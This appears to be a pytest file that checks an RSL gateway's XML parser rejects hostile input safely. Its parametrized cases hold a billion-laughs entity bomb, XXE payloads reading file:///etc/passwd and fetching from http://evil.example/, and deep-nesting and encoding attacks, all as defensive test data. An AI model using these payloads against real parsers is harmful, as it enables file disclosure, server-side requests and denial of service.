"""XML of strangers: bombs, depth, odd encodings; and that breaches are kept once, by line."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from gateway.terms.rsl import parse_rsl
from gateway.terms.rsl_xml import NAMESPACE, Breach, Notes, RslError, Severity, is_uri, parse_xml

NESTED = 'xmlns="https://rslstandard.org/rsl"'
BOMB = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10 if at else "ha"}">' for at in range(12))


@pytest.mark.parametrize(
    ("octets", "why"),
    [
        (f"<!DOCTYPE r [{BOMB}]><r>&e11;</r>".encode(), "document type"),
        (f"<!DOCTYPE r [{BOMB}]><r>&e11;</r>".encode("utf-16"), "document type"),
        (b'<!DOCTYPE r SYSTEM "file:///etc/passwd"><r/>', "document type"),
        (b'<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/">%x;]><r/>', "document type"),
        (b"<r>&undeclared;</r>", "well-formed"),
        (b"<r>" * 33 + b"</r>" * 33, "nested deeper"),
        (b"<r>" * 100_000, "well-formed"),
        (b"<r " + b" ".join(b'a%d="x"' % at for at in range(9000)), "well-formed"),
        (b'<?xml version="1.0" encoding="EBCDIC-CP-US"?>\xff\xff<r/>', "neither UTF-8"),
        ("<r/>".encode("utf-32"), "neither"),
        ("<r>ä</r>".encode("latin-1"), "neither UTF-8"),
        (b"<r>\x00</r>", "well-formed"),
        (b"", "well-formed"),
        (b"<r>" + b"x" * 70_000 + b"</r>", "larger"),
    ],
)
def test_hostile_xml_is_a_value(octets, why):
    found = parse_xml(octets, 65_536 if why == "larger" else 1 << 20)
    assert isinstance(found, RslError)
    assert why in found.why or found.why == "it is not well-formed XML", found.why


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_a_declared_encoding_is_not_believed(encoding):
    text = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<r>\N{EURO SIGN}</r>'
    assert parse_xml(text.encode(encoding), 1000).text == "\N{EURO SIGN}"


@settings(max_examples=400, deadline=None)
@given(st.binary(max_size=300))
def test_no_octets_raise(octets):
    found = parse_xml(octets, 1000)
    assert isinstance(found, RslError) or found.tag is not None


def test_breaches_are_kept_once_and_by_line():
    root = etree.fromstring("<a>\n<b/>\n<c/>\n</a>")
    notes = Notes()
    notes.warn(root[1], "3.7", "later")
    notes.error(root[0], "3", "first")
    notes.error(root[0], "3", "first")
    notes.error(None, "2", "of all of it")
    assert notes.breaches() == (
        Breach(0, "2", Severity.ERROR, "of all of it"),
        Breach(2, "3", Severity.ERROR, "first"),
        Breach(3, "3.7", Severity.WARNING, "later"),
    )


def test_lines_are_those_of_the_file():
    octets = f'<?xml version="1.0"?>\n<!-- a\nb -->\n<rsl {NESTED}>\n\n<content url="x"/></rsl>'.encode()
    assert {each.line for each in parse_rsl(octets).breaches} == {6}


@pytest.mark.parametrize("text", ["https://a.example/x", "mailto:a@b.example", "urn:x:y"])
def test_an_absolute_uri(text):
    assert is_uri(text) and not is_uri(f" {text}") and not is_uri(text.replace(":", "."))


def test_the_namespace_is_the_one_of_the_standard():
    assert NAMESPACE == "https://rslstandard.org/rsl"
